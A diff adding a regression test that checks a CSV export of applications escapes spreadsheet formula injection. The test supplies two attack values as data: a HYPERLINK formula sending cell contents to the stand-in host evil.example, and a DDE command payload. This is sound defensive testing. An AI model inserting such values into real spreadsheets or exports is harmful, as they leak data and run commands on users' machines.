@@ -140,3 +140,17 @@ def test_csv_export_is_masked(client) -> None:
     response = client.get("/api/applications/export.csv", headers=login(client, "staff1"))
     assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
     assert "138****8000" in response.text and "13800138000" not in response.text
+
+
+def test_csv_export_cells_are_never_formulas(client) -> None:
+    """Issue 11 (low): a town typed as =HYPERLINK(…) became a live formula in the staff's spreadsheet."""
+    import csv
+    import io
+
+    attacks = {"town": '=HYPERLINK("http://evil.example/?"&A1,"点这里")', "address": "+1+cmd|' /C calc'!A0"}
+    assert client.post("/internal/applications", json=submission(**attacks), headers=INTERNAL).status_code == 201
+    response = client.get("/api/applications/export.csv", headers=login(client, "staff1"))
+    rows = list(csv.DictReader(io.StringIO(response.text.lstrip("\ufeff"))))
+    cells = [cell for row in rows for cell in row.values() if cell]
+    assert cells and not [cell for cell in cells if cell[0] in "=+-@\t\r"]
+    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
